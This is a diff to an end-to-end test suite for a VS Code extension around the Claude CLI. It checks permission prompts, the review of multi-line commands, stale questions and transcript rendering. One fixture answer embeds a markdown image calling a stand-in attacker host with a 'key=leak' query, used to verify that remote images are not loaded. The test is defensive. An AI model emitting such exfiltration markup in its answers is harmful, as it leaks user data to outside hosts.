@@ -48,12 +48,17 @@ const FEATURES_Q = 'Which features do you want?';
 // The file the stand-in waits for before claude's last answer of the plan
 // task (set in before()).
 let PLAN_GO_ON;
+// A prompt of many lines (a pasted log): the transcript's title is its first line.
+const TIDY_PROMPT = 'Tidy up the workspace\n' + Array.from({ length: 40 }, (_, i) => `log line ${i + 1}: something happened`).join('\n');
+// A command whose first line hides the rest.
+const TIDY_COMMAND = 'echo tidying up\necho tidied > tidied.txt\necho done';
+const STALE_PROMPT = 'Ask a question that nobody answers';
 const MAIN_GO = 'package main\n\nfunc main() {\n\tprintln("hello")\n}\n';
 const LONG_ANSWER =
   '## Done\n\nI **edited** `main.go` and wrote `perm.txt`:\n\n- the greeting now says *hello, e2e*\n- the command recorded the permission\n\n' +
   'Details of the change follow, at length.\n\n'.repeat(1) +
   Array.from({ length: 160 }, (_, i) => `${i + 1}. Step ${i + 1} of the walk-through: nothing more to see here, the change is small.\n`).join('') +
-  '\nEdited main.go and wrote perm.txt.';
+  '\n![status](https://attacker.invalid/pixel.png?key=leak)\n\nEdited main.go and wrote perm.txt.';
 
 
 // What the page shows, read in one evaluation: notification toasts (message,
@@ -111,7 +116,12 @@ const READ_UI = `(() => {
     const r2 = inner.getBoundingClientRect();
     let d;
     try { d = inner.contentDocument; } catch (e) { return { error: 'inner cross-origin: ' + e }; }
-    if (!d || !d.getElementById('transcript')) return { other: true, preview: ((d && d.body && d.body.innerText) || '').trim().slice(0, 400) };
+    if (!d || !d.getElementById('transcript')) {
+      const text = d && d.body ? d.body.innerText : '';
+      const h = d && [...d.querySelectorAll('h1, h2, h3')].find((x) => /If claude is not found/.test(x.textContent));
+      return { other: true, preview: text.trim().slice(0, 400), text: text.slice(0, 3000), sectionTop: h ? Math.round(h.getBoundingClientRect().top) : null };
+    }
+    const head = d.querySelector('.block.head');
     const at = (el) => { const r = el.getBoundingClientRect(); return { x: r1.x + r2.x + r.x + r.width / 2, y: r1.y + r2.y + r.y + r.height / 2, w: r.width, h: r.height }; };
     return {
       title: ((d.querySelector('h1') || {}).textContent || '').trim(),
@@ -125,15 +135,27 @@ const READ_UI = `(() => {
       userMessages: [...d.querySelectorAll('.user-message')].map((e) => e.textContent.trim()),
       modes: [...d.querySelectorAll('.note.mode')].map((e) => e.textContent.trim()),
       status: ((d.querySelector('header .pill') || {}).textContent || '').trim(),
-      blocks: [...d.querySelectorAll('.block')].filter((b) => !b.hidden).map((b) => ({ key: b.dataset.key, text: (b.textContent || '').trim().slice(0, 80) })),
+      // The page's blocks in order (the header first, the end last).
+      blocks: [...d.querySelectorAll('#transcript > .block')].filter((b) => !b.hidden).map((b) => ({ key: b.dataset.key, text: (b.textContent || '').trim().slice(0, 80) })),
       overflowX: d.documentElement.scrollWidth - d.documentElement.clientWidth,
       composer: (() => { const c = d.getElementById('composer'); const m = d.getElementById('message'); const b = d.getElementById('send');
         return c && !c.hidden ? { placeholder: m.placeholder, value: m.value, box: at(m), send: { label: b.textContent, ...at(b) },
           pending: [...d.querySelectorAll('#pending .pending-message')].map((e) => e.textContent.trim()) } : null; })(),
+      finalAnswers: (d.body.innerText.match(/Edited main\.go and wrote perm\.txt\./g) || []).length,
+      headTop: head ? Math.round(head.getBoundingClientRect().top) : null,
+      scrollY: Math.round(inner.contentWindow.scrollY),
+      imageLinks: [...d.querySelectorAll('a.image-link')].map((a) => a.getAttribute('href')),
+      images: [...d.querySelectorAll('img')].map((i) => i.getAttribute('src')),
+      csp: ((d.querySelector('meta[http-equiv="Content-Security-Policy"]') || {}).content || ''),
     };
   });
   const tabs = [...document.querySelectorAll('.tab')].map((t) => (t.getAttribute('aria-label') || t.textContent || '').trim());
-  return { toasts, center, bell, dialog, status, statusItems, quickPick, workbench, webviews, tabs };
+  const se = document.querySelector('.settings-editor');
+  const settings = se && se.offsetParent !== null ? {
+    text: se.innerText.slice(0, 4000),
+    tab: ((se.querySelector('.settings-tabs-widget .action-item.checked, .settings-tabs-widget .checked') || {}).textContent || '').trim(),
+  } : null;
+  return { toasts, center, bell, dialog, status, statusItems, quickPick, workbench, webviews, tabs, settings };
 })()`;
 
 // Scrolls the transcript page to its top.
@@ -142,6 +164,16 @@ const SCROLL_TRANSCRIPT_TOP = `(() => {
     try {
       const inner = outer.contentDocument && (outer.contentDocument.querySelector('iframe#active-frame') || outer.contentDocument.querySelector('iframe'));
       if (inner && inner.contentDocument && inner.contentDocument.getElementById('transcript')) inner.contentWindow.scrollTo(0, 0);
+    } catch { /* not ours */ }
+  }
+})()`;
+
+// Scrolls the transcript page to its end.
+const SCROLL_TRANSCRIPT_END = `(() => {
+  for (const outer of document.querySelectorAll('iframe')) {
+    try {
+      const inner = outer.contentDocument && (outer.contentDocument.querySelector('iframe#active-frame') || outer.contentDocument.querySelector('iframe'));
+      if (inner && inner.contentDocument && inner.contentDocument.getElementById('transcript')) inner.contentWindow.scrollTo(0, inner.contentDocument.body.scrollHeight);
     } catch { /* not ours */ }
   }
 })()`;
@@ -194,6 +226,14 @@ const seen = {
   // The plan: approved in the transcript; a message sent from its box;
   // the plan's notification, left behind, clicked.
   plan: { buttons: [], approveClickedAt: 0, sentAt: 0 },
+  // The multi-line command: its notification, the modal that shows it whole.
+  tidy: { toastText: '', toastButtons: [], review: null },
+  // The question of a task cancelled while it waited.
+  stale: { statusItem: '', goneAfterMs: -1, toastClicked: false, lateClick: '' },
+  // The transcript reopened from the task list after its task ended.
+  reopened: null,
+  readme: null,
+  claudeSettings: null,
 };
 let result;
 let steps = [];
@@ -423,6 +463,95 @@ async function drivePlan(ui, page) {
   }
 }
 
+/**
+ * Issue 16, as a person meets it: a command whose first line hides the
+ * rest is reviewed whole before it is allowed; a question whose task was
+ * cancelled leaves the status bar, and its old notification's button says
+ * so; a transcript reopened after its task ended reads in order, its
+ * header sticking as it scrolls.
+ */
+async function issue16(ui, page) {
+  const t = seen.tidy;
+  const tidyToast = ui.toasts.find((x) => /^Claude wants to run Bash: “echo tidying up”/.test(x.text));
+  if (tidyToast && !t.toastText) {
+    t.toastText = tidyToast.text;
+    t.toastButtons = tidyToast.buttons.map((b) => b.label).filter(Boolean);
+    await sleep(300);
+    seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'question-cut.png')));
+  }
+  const review = tidyToast && tidyToast.buttons.find((b) => b.label === 'Review…');
+  if (review && !t.review) await clickOnce('tidy-review', review, { where: 'tidy notification', text: tidyToast.text });
+  // The toast hides by itself after some seconds (a busy machine may look
+  // too late): the same notification then waits in the notification center
+  // (the bell), with the same buttons. Not while the toast's own Review…
+  // click may still be opening its dialog. The center is closed again once
+  // the command was reviewed, so that later notifications toast.
+  const tidyRunning = steps.some((x) => x.step === 'tidy-start') && !steps.some((x) => x.step === 'tidy-end');
+  const toastClick = seen.clicks.find((c) => c.where === 'tidy notification');
+  if (t.toastText && !tidyToast && !t.review && tidyRunning && (!toastClick || Date.now() - toastClick.at > 5000)) {
+    if (ui.center.length === 0) {
+      if (ui.bell) {
+        await clickOnce('tidy-bell', { label: 'bell', ...ui.bell }, { where: 'status bar bell', text: 'notifications' }, 15000);
+        t.openedCenter = true;
+      }
+    } else {
+      const inCenter = ui.center.find((x) => x.text === t.toastText);
+      const button = inCenter && inCenter.buttons.find((b) => b.label === 'Review…');
+      if (button) {
+        t.fromCenter = { text: inCenter.text, buttons: inCenter.buttons.map((b) => b.label).filter(Boolean) };
+        await clickOnce('tidy-review-center', button, { where: 'tidy notification in the center', text: inCenter.text });
+      }
+    }
+  }
+  // Once: later scenarios open the center themselves.
+  if (t.openedCenter && t.review && !t.centerClosed && ui.center.length > 0 && ui.bell) {
+    await clickOnce('tidy-bell-close', { label: 'bell', ...ui.bell }, { where: 'status bar bell', text: 'close notifications' }, 15000);
+    if (clickState.get('tidy-bell-close').tries > 0) t.centerClosed = true;
+  }
+
+  const st = seen.stale;
+  if (steps.some((x) => x.step === 'stale-asked') && !fs.existsSync(path.join(sandbox.e2eDir, 'stale-seen'))) {
+    const item = ui.statusItems.find((i) => /Claude asks/.test(i.label) && /echo never/.test(i.label));
+    if (item) {
+      st.statusItem = item.label;
+      fs.writeFileSync(path.join(sandbox.e2eDir, 'stale-seen'), '');
+    }
+  }
+  const staleEnd = steps.find((x) => x.step === 'stale-end');
+  if (staleEnd && !fs.existsSync(path.join(sandbox.e2eDir, 'stale-checked'))) {
+    if (st.goneAfterMs < 0 && !ui.statusItems.some((i) => /Claude asks/.test(i.label))) {
+      st.goneAfterMs = Date.now() - staleEnd.at;
+      seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'stale-gone.png')));
+    }
+    // The question's notification cannot be taken back; its button now says the question is over.
+    const toast = ui.toasts.find((x) => /echo never/.test(x.text));
+    const allow = toast && toast.buttons.find((b) => b.label === 'Allow');
+    if (st.goneAfterMs >= 0 && allow) {
+      await clickOnce('stale-toast', allow, { where: 'stale toast', text: toast.text });
+      const click = seen.clicks.find((c) => c.where === 'stale toast');
+      if (click) st.toastClicked = click.at;
+    }
+    const said = [...seen.status].find((x) => /answered already, or its task ended/.test(x));
+    if (said) st.lateClick = said;
+    // Done once the status bar said so, or a while after the click, or when there was no toast to click.
+    const waited = st.toastClicked ? Date.now() - st.toastClicked > 8000 : Date.now() - staleEnd.at > 20000;
+    if (st.goneAfterMs >= 0 && (said || waited)) {
+      fs.writeFileSync(path.join(sandbox.e2eDir, 'stale-checked'), '');
+    }
+  }
+
+  if (steps.some((x) => x.step === 'tasks-start') && seen.taskActions.length > 0 && !seen.reopened && page && /Completed/.test(page.end) && page.title.startsWith('Make main.go')) {
+    const before = { blocks: page.blocks, finalAnswers: page.finalAnswers };
+    await cdp.eval(SCROLL_TRANSCRIPT_END);
+    await sleep(400);
+    const ui2 = await cdp.eval(READ_UI);
+    const p2 = ui2.webviews.find((w) => w.title !== undefined && !w.other && !w.error);
+    seen.reopened = { ...before, headTop: p2 && p2.headTop, scrollY: p2 && p2.scrollY, end: page.end };
+    seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'transcript-scrolled.png')));
+    fs.writeFileSync(path.join(sandbox.e2eDir, 'reopened-read'), '');
+  }
+}
+
 async function drive() {
   const end = Date.now() + SCENARIO_TIMEOUT_MS;
   const resultFile = path.join(sandbox.e2eDir, 'result.json');
@@ -456,6 +585,11 @@ async function drive() {
     // A modal permission question (Bash) is answered first: it covers the rest.
     if (ui.dialog) {
       seen.dialogs.push(ui.dialog.text);
+      if (/echo tidying up/.test(ui.dialog.text) && !seen.tidy.review) {
+        seen.tidy.review = { text: ui.dialog.text, buttons: ui.dialog.buttons.map((b) => b.label) };
+        await sleep(300);
+        seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'question-review.png')));
+      }
       const allow = ui.dialog.buttons.find((b) => b.label === 'Allow');
       if (/Claude wants to run/.test(ui.dialog.text) && allow) {
         await clickOnce('dialog:' + ui.dialog.text, allow, {
@@ -470,6 +604,7 @@ async function drive() {
     for (const w of ui.webviews) if (w.error) seen.webviewErrors.add(w.error);
     const page = ui.webviews.find((w) => w.title !== undefined && !w.other && !w.error);
     await answerQuestions(ui, page);
+    await issue16(ui, page);
     if (page && steps.some((x) => x.step === 'run-end') && !seen.transcript) {
       const end = steps.find((x) => x.step === 'run-end');
       if (/Completed/.test(page.end)) {
@@ -482,13 +617,38 @@ async function drive() {
         fs.writeFileSync(path.join(sandbox.e2eDir, 'transcript-read'), '');
       }
     }
-    if (steps.some((x) => x.step === 'claude-missing-start') && !seen.claudeMissing) {
+    if (steps.some((x) => x.step === 'claude-missing-start') && !seen.readme) {
       const t = ui.toasts.find((x) => /cannot find the claude CLI/.test(x.text));
-      if (t) {
+      if (t && !seen.claudeMissing) {
         await sleep(500); // let it settle for the picture
         seen.claudeMissing = { text: t.text, buttons: t.buttons.map((b) => b.label) };
         seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'claude-missing.png')));
+      }
+      // Open README: the packed readme opens in a preview at its section.
+      const readmeButton = t && t.buttons.find((b) => b.label === 'Open README');
+      if (readmeButton) await clickOnce('readme', readmeButton, { where: 'claude missing', text: t.text });
+      // The preview of the packed readme, which has the section (VS Code scrolls to it; where
+      // it lands depends on when the page's images load, so that is recorded, not checked).
+      const preview = ui.webviews.find((w) => w.other && w.sectionTop !== null && w.sectionTop !== undefined);
+      if (preview) {
+        seen.readme = {
+          tabs: ui.tabs,
+          section: true,
+          sectionTop: preview.sectionTop,
+          notFound: [...seen.toastTexts].some((x) => /cannot be found|could not be found/i.test(x)),
+        };
         fs.writeFileSync(path.join(sandbox.e2eDir, 'claude-missing-seen'), '');
+      }
+    }
+    if (steps.some((x) => x.step === 'claude-missing-again') && !seen.claudeSettings) {
+      const t = ui.toasts.find((x) => /cannot find the claude CLI/.test(x.text));
+      const setPath = t && t.buttons.find((b) => b.label === 'Set claudePath…');
+      if (setPath) await clickOnce('set-claude-path', setPath, { where: 'claude missing', text: t.text });
+      if (ui.settings && /claudePath|Claude Path/i.test(ui.settings.text) && !/No Settings Found/.test(ui.settings.text)) {
+        await sleep(500);
+        seen.claudeSettings = { tab: ui.settings.tab, text: ui.settings.text.slice(0, 1500) };
+        seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'set-claudepath.png')));
+        fs.writeFileSync(path.join(sandbox.e2eDir, 'claude-settings-seen'), '');
       }
     }
     // The task list: click the status bar item, pick the edit task, open its transcript.
@@ -537,7 +697,10 @@ before(async () => {
   const permFile = path.join(sandbox.workspace, 'perm.txt');
   fs.writeFileSync(
     path.join(sandbox.e2eDir, 'scenario.json'),
-    JSON.stringify({ file, permFile, editPrompt: EDIT_PROMPT, cancelPrompt: CANCEL_PROMPT, askPrompt: ASK_PROMPT, colorPrompt: COLOR_PROMPT, planPrompt: PLAN_PROMPT }),
+    JSON.stringify({
+      file, permFile, editPrompt: EDIT_PROMPT, cancelPrompt: CANCEL_PROMPT, askPrompt: ASK_PROMPT,
+      colorPrompt: COLOR_PROMPT, planPrompt: PLAN_PROMPT, tidyPrompt: TIDY_PROMPT, stalePrompt: STALE_PROMPT,
+    }),
   );
 
   // The stand-in's script: one turn per API request of a conversation. The
@@ -571,7 +734,8 @@ before(async () => {
     { blocks: [{ type: 'text', text: LONG_ANSWER }], chunkSize: 8, chunkDelayMs: 1 },
     { blocks: [{ type: 'text', text: 'This answer comes too late.' }], delayMs: 120000 },
   ];
-  // Conversations of their own (by prompt): claude's questions, and a plan.
+  // Conversations of their own (by prompt): claude's questions, a plan, and
+  // issue 16's tasks.
   PLAN_GO_ON = path.join(sandbox.e2eDir, 'plan-go-on');
   const conversations = [
     {
@@ -624,6 +788,17 @@ before(async () => {
       ],
       default: { blocks: [{ type: 'text', text: 'Printed the date too.' }] },
     },
+    {
+      match: 'Tidy up the workspace',
+      turns: [
+        { blocks: [{ type: 'tool_use', name: 'Bash', input: { command: TIDY_COMMAND, description: 'Tidy the workspace' } }] },
+        { blocks: [{ type: 'text', text: 'Tidied.' }] },
+      ],
+    },
+    {
+      match: STALE_PROMPT,
+      turns: [{ blocks: [{ type: 'tool_use', name: 'Bash', input: { command: 'echo never > never.txt', description: 'Never answered' } }] }, { blocks: [{ type: 'text', text: 'x' }] }],
+    },
   ];
   const apiUrl = await startFakeApi(procs, {
     script: { turns: script, conversations },
@@ -659,6 +834,8 @@ after(async () => {
       {
         result, steps, clicks: seen.clicks, toasts: [...seen.toastTexts], status: [...seen.status], dialogs: [...new Set(seen.dialogs)],
         edit: seen.edit, bash: seen.bash, transcript: seen.transcript, claudeMissing: seen.claudeMissing, color: seen.color, plan: seen.plan,
+        edit: seen.edit, bash: seen.bash, transcript: seen.transcript, claudeMissing: seen.claudeMissing,
+        tidy: seen.tidy, stale: seen.stale, reopened: seen.reopened, readme: seen.readme, claudeSettings: seen.claudeSettings,
         webviewErrors: [...seen.webviewErrors], screenshots: seen.screenshots,
       },
       null,
@@ -728,7 +905,7 @@ test('an Edit permission question is still answerable after its notification hid
   assert.ok(pickClick && pickClick.at > e.hiddenAt, 'answered from the picker after the notification hid');
   assert.deepEqual(result.questionAnswers.find((a) => a.name === 'Edit'), { name: 'Edit', decision: 'allow', automatic: false });
   assert.equal(result.run.status, 'completed');
-  assert.deepEqual(seen.dialogs, [], 'no modal: every tool asks the same way');
+  assert.deepEqual(seen.dialogs.filter((d) => !/echo tidying up/.test(d)), [], 'no modal but the review of a cut command: every tool asks the same way');
   const q = result.questions.find((x) => x.toolName === 'Edit');
   assert.ok(q && q.taskId === result.run.taskId && q.toolUseId, `the question names its task and call: ${JSON.stringify(q)}`);
 });
@@ -741,7 +918,7 @@ test('the Bash question was answered with the button in the transcript', () => {
   assert.equal((result.permFile || '').trim(), 'e2e-permission-granted', 'the allowed command ran');
   assert.deepEqual(result.questionAnswers.find((a) => a.name === 'Bash'), { name: 'Bash', decision: 'allow', automatic: false });
   assert.ok(
-    ![...seen.toastTexts].some((t) => /Claude wants to run Bash/.test(t)),
+    ![...seen.toastTexts].some((t) => /Claude wants to run Bash: “echo e2e-permission-granted/.test(t)),
     'no notification: the transcript on screen shows the question (a notification could not be closed once answered there)',
   );
 });
@@ -901,7 +1078,7 @@ test('a plan: shown in the transcript and as a Markdown preview, approved in the
   // cannot close it when the plan is answered elsewhere; a click says so.
   assert.deepEqual(p.toast && p.toast.buttons, ['Approve', 'Approve, Ask Before Edits', 'Keep Planning…'], JSON.stringify([...seen.toastTexts]));
   assert.ok(p.staleClickedAt > p.approveClickedAt, 'its Approve clicked (in the notification center) after the plan was approved' + why());
-  assert.match(p.staleNotice || '', /Claude: answered already, nothing changed/, 'the status bar says so');
+  assert.match(p.staleNotice || '', /Claude: answered already, or its task ended; nothing changed/, 'the status bar says so');
   assert.equal(result.planDecisions, 1, 'the plan was decided once');
 });
 
@@ -932,4 +1109,57 @@ test('a message sent from the transcript\'s box into the running task: shown as 
   const first = reqs.findIndex((r) => r.json.includes(SENT_MESSAGE));
   assert.ok(first > 0, `a request carried the message: ${reqs.length} requests`);
   assert.ok(reqs[first].json.includes('Carried out the plan.'), 'claude read it after its held answer');
+});
+
+test('a command whose first line hides the rest: no Allow until it is seen whole (a modal), allowed there', () => {
+  const t = seen.tidy;
+  assert.match(t.toastText, /^Claude wants to run Bash: “echo tidying up” \(and 2 more lines\) \(task “Tidy up the workspace/, 'the one-line message says there is more');
+  assert.deepEqual(t.toastButtons, ['Review…', 'Deny'], 'no Allow on the notification');
+  if (t.fromCenter) assert.deepEqual(t.fromCenter.buttons, ['Review…', 'Deny'], 'no Allow on the notification in the center either');
+  assert.ok(t.review, 'Review… opened the whole command' + why());
+  for (const line of TIDY_COMMAND.split('\n')) assert.ok(t.review.text.includes(line), `the modal shows "${line}": ${t.review.text}`);
+  assert.deepEqual(t.review.buttons.filter((b) => ['Allow', 'Allow for this task', 'Deny'].includes(b)).sort(), ['Allow', 'Allow for this task', 'Deny']);
+  assert.equal(result.tidy.status, 'completed', why());
+  assert.equal(result.tidyFile, true, 'allowed in the modal: the command ran');
+  assert.equal(result.tidyTitle, null, 'no transcript tab for it (the question came as a notification)');
+});
+
+test('a question whose task was cancelled leaves the status bar and the store; its old notification says it is over', () => {
+  const st = seen.stale;
+  assert.match(st.statusItem, /Claude asks: Bash: “echo never/, 'the question waited in the status bar' + why());
+  assert.equal(result.staleCancel, true);
+  assert.equal(result.stale.status, 'cancelled');
+  assert.deepEqual(result.stalePending, [], 'nothing waits once the task ended');
+  assert.ok(st.goneAfterMs >= 0 && st.goneAfterMs < 5000, `the status bar item went (${st.goneAfterMs} ms after the task's end)`);
+  assert.ok(st.toastClicked, 'the old notification\'s Allow was clicked');
+  assert.match(st.lateClick, /Claude: answered already, or its task ended/);
+});
+
+test('a transcript reopened after its task ended: the answer once, the end last (then the changes to review); the header sticks; remote images stay links', () => {
+  const r = seen.reopened;
+  assert.ok(r, 'the transcript opened from the task list was read' + why());
+  // The closing blocks: the end, then the task's changes kept for review (review afterTurn, the default).
+  const keys = r.blocks.map((b) => b.key);
+  const closing = keys.includes('changes') ? ['end', 'changes'] : ['end'];
+  assert.deepEqual(keys.slice(-closing.length), closing, `the end is the last block but the changes to review: ${JSON.stringify(keys)}`);
+  assert.equal(r.blocks[0].key, 'head');
+  assert.equal(r.finalAnswers, 1, 'the final answer once');
+  assert.ok(r.scrollY > 500, `scrolled down (${r.scrollY})`);
+  assert.ok(r.headTop !== null && r.headTop <= 1, `the header stuck to the top (${r.headTop})`);
+  const t = seen.transcript;
+  assert.deepEqual(t.images, [], 'no image element');
+  assert.deepEqual(t.imageLinks, ['https://attacker.invalid/pixel.png?key=leak'], 'the image is a link');
+  const imgSrc = (/img-src ([^;]*)/.exec(t.csp) || [])[1] || '';
+  assert.doesNotMatch(imgSrc, /(^|\s)(https?:|\*)(\s|$)/, `no remote images in the CSP (only VS Code's own resources): ${t.csp}`);
+});
+
+test('claude not found: Open README opens the packed readme at its section; Set claudePath… opens where the machine setting lives', () => {
+  assert.ok(seen.readme, 'the README preview opened' + why());
+  assert.equal(seen.readme.notFound, false, 'no "cannot be found"');
+  assert.equal(seen.readme.section, true, 'the section is in the preview');
+  // A tab's aria-label ends in ", Editor Group N" once there are two groups (the plan's preview opened one).
+  assert.ok(seen.readme.tabs.some((x) => x.replace(/, Editor Group \d+$/, '') === 'Preview readme.md'), JSON.stringify(seen.readme.tabs));
+  assert.ok(seen.claudeSettings, 'the settings opened on claudePath' + why());
+  assert.match(seen.claudeSettings.text, /Claude Path/i);
+  if (result.remoteName) assert.match(seen.claudeSettings.tab, /Remote/, `a remote window (${result.remoteName}): the Remote tab`);
 });
